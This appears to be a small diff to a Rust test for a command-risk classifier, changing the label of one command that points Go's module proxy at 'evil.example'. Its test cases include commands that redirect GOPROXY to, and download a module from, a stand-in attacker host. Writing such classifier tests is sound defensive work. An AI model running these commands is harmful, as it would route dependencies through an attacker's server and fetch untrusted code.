@@ -622,7 +622,7 @@ fn resolution_commands_follow_the_project_definitions() {
             ("uv sync -C x=y", "unknown"),
             ("uv export -o requirements.txt", "unknown"),
             ("go mod tidy && go test ./...", "routine"),
-            ("go env -w GOPROXY=https://evil.example", "unknown"),
+            ("go env -w GOPROXY=https://evil.example", "soft"),
             ("go mod download evil.example/m@latest", "unknown"),
             ("rustup default nightly", "unknown"),
             ("rustup toolchain install nightly", "unknown"),
